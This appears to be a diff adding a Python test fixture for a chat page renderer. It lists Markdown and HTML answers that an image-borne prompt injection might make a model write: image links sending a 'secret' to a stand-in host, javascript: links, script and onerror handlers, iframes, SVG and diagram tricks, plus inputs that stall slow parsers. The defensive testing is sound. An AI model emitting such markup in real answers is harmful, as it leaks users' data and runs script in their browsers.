@@ -1,0 +1,73 @@
+"""Answers that a picture told a model to write: what a page must show as text, and no more."""
+
+FOREIGN = "http://127.0.0.1:9"
+# What an answer holds, and a word of it that must stay readable.
+HOSTILE: dict[str, tuple[str, str]] = {
+    "picture": ("![leak](EVIL/a.png?q=secret)", "leak"),
+    "picture-title": ('![leak](EVIL/a.png "title")', "leak"),
+    "picture-angle": ("![leak](<EVIL/a.png>)", "leak"),
+    "picture-reference": ("![leak][1]\n\n[1]: EVIL/a.png", "leak"),
+    "picture-short-reference": ("![leak]\n\n[leak]: EVIL/a.png", "leak"),
+    "picture-own": ("![leak](/page/facts?leak)", "leak"),
+    "picture-own-relative": ("![leak](page/icon.svg)", "leak"),
+    "picture-schemeless": ("![leak](//127.0.0.1:9/a.png)", "leak"),
+    "picture-data": ("![leak](data:image/svg+xml;base64,PHN2Zy8+)", "leak"),
+    "picture-in-list": ("- a\n  ```\n![leak](EVIL/a.png)", "leak"),
+    "picture-in-quote": ("> ```\n> a\n![leak](EVIL/a.png)", "leak"),
+    "picture-in-table": ("| a |\n|---|\n| ![leak](EVIL/a.png) |", "leak"),
+    "picture-in-link": ("[![leak](EVIL/a.png)](EVIL/b)", "leak"),
+    "picture-after-code": ("`` ` `` ![leak](EVIL/a.png) `", "leak"),
+    "picture-in-heading": ("# ![leak](EVIL/a.png)", "leak"),
+    "link": ("[leak](EVIL/page)", "leak"),
+    "link-script": ("[leak](javascript:document.title='owned')", "leak"),
+    "link-data": ("[leak](data:text/html,<script>alert(1)</script>)", "leak"),
+    "link-own": ("[leak](/page/facts?x)", "leak"),
+    "link-reference": ("[leak][1]\n\n[1]: <EVIL/page> 'title'", "leak"),
+    "link-bare": ("see EVIL/leak for it", "leak"),
+    "link-www": ("see www.leak.example for it", "leak"),
+    "link-angle": ("<EVIL/leak>", "leak"),
+    "link-mail": ("write to leak@a.example now", "leak"),
+    "link-mail-angle": ("<mailto:leak@a.example>", "leak"),
+    "link-entity": ("[leak]&#40;EVIL/page) &lt;img src=EVIL/a.png&gt;", "leak"),
+    "html-picture": ("<img src=EVIL/a.png alt=leak onerror=document.title='owned'>", "leak"),
+    "html-anchor": ("<a href=EVIL/page>leak</a>", "leak"),
+    "html-anchor-ping": ("<a href='#' ping=EVIL/page>leak</a>", "leak"),
+    "html-block": ("<div style='background:url(EVIL/a.png)'>leak</div>", "leak"),
+    "html-style": ("<style>body{background:url(EVIL/a.png)}</style>leak", "leak"),
+    "html-link": ("<link rel=stylesheet href=EVIL/a.css>leak", "leak"),
+    "html-preload": ("<link rel=preload as=image href=EVIL/a.png>leak", "leak"),
+    "html-script": ("<script>document.title='owned'</script>leak", "leak"),
+    "html-frame": ("<iframe src=EVIL/page></iframe>leak", "leak"),
+    "html-srcdoc": ("<iframe srcdoc='<img src=EVIL/a.png>'></iframe>leak", "leak"),
+    "html-object": ("<object data=EVIL/a.svg></object><embed src=EVIL/b.svg>leak", "leak"),
+    "html-media": ("<video poster=EVIL/a.png src=EVIL/b></video><audio src=EVIL/c autoplay>leak", "leak"),
+    "html-source": ("<picture><source srcset=EVIL/a.png><img src=EVIL/b.png></picture>leak", "leak"),
+    "html-form": ("<form action=EVIL/page><input name=q value=leak><button>go</button></form>", "leak"),
+    "html-meta": ("<meta http-equiv=refresh content='0;url=EVIL/page'>leak", "leak"),
+    "html-base": ("<base href=EVIL/>leak", "leak"),
+    "html-comment": ("<!-- > --><img src=EVIL/a.png>leak", "leak"),
+    "html-case": ("<ImG sRc=EVIL/a.png>leak", "leak"),
+    "html-table": ("<table background=EVIL/a.png><tr><td>leak</td></tr></table>", "leak"),
+    "svg": ("<svg><image href=EVIL/a.png /><script>document.title='owned'</script></svg>leak", "leak"),
+    "svg-use": ("<svg><use href=EVIL/a.svg#x /></svg>leak", "leak"),
+    "mathml": ("<math><mtext><mglyph><style><img src=EVIL/a.png></style></mglyph></mtext></math>leak", "leak"),
+    "diagram": ('```mermaid\ngraph TD\nA@{ img: "EVIL/a.png", label: "leak" }\n```\n', "leak"),
+    "diagram-click": ('```mermaid\ngraph TD\nA[leak]\nclick A href "EVIL/page"\n```\n', "leak"),
+    "code-fence": ("```html\n<img src=EVIL/a.png>leak\n```", "leak"),
+    "code-span": ("`![leak](EVIL/a.png)`", "leak"),
+    "code-language": ('```x"><img/src=EVIL/a.png>\nleak\n```', "leak"),
+    "latex": (r"$$\href{javascript:alert(1)}{leak}\includegraphics{EVIL/a.png}$$", "leak"),
+}  # fmt: skip
+
+ACTIVE = (
+    "a", "img", "image", "picture", "source", "svg", "use", "math", "iframe", "frame", "object",
+    "embed", "link", "style", "script", "form", "input", "video", "audio", "track", "base", "meta",
+    "area", "map", "portal",
+)  # fmt: skip
+"""Elements that could load, lead away or run."""
+SLOW = (
+    ("**", 8000), ("`", 16000), ("_a ", 6000), ("*a", 8000), ("~~a ", 4000), ("> ", 8000), ("- ", 8000),
+    ("|", 16000), ("| a |\n|---|\n", 2000), ("[", 16000), ("```", 5000), ("# ", 8000), ("  - a\n", 3000),
+    ("**a _b `c ", 1500), ("1. ", 5000), ("> - ", 3000), ("\\", 16000), ("a_b*c__d**", 1500),
+)  # fmt: skip
+"""Texts, and how often each is repeated, that make a careless parser take minutes."""
